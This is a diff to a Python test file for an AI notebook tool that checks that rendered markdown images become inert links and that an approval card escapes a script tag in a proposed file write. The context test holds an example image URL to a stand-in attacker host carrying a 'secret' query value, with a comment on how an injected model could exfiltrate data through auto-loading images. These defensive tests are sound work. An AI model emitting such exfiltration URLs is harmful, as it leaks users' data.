@@ -61,3 +61,16 @@ def test_an_image_is_a_link_and_loads_nothing() -> None:
     # An image loads by itself: its URL is where an injected model would put what it wants sent out.
     out = markdown_html("![chart](https://attacker.example/pixel.png?d=secret)")
     assert "<img" not in out and 'href="https://attacker.example/pixel.png?d=secret"' in out
+
+
+def test_the_approval_card_shows_a_writes_diff_escaped() -> None:
+    from zeph_nb.gates.approval import ApprovalRequest
+    from zeph_nb.notebook.transcript import ToolCard
+
+    request = ApprovalRequest(call_id="c", tool="write", params={"path": "a.html"}, subjects=("a.html",), rule="*",
+                              reason="asked", preview="--- a/a.html\n+++ b/a.html\n-old\n+<script>x()</script>\n")  # fmt: skip
+    card = ToolCard("write", {"path": "a.html"})
+    card.ask(request, lambda choice: None)
+    shown = card.ask_box.children[0].value
+    assert "What changes:" in shown and '<span style="color:#cf222e">-old</span>' in shown
+    assert "+&lt;script&gt;x()&lt;/script&gt;" in shown and "<script>" not in shown
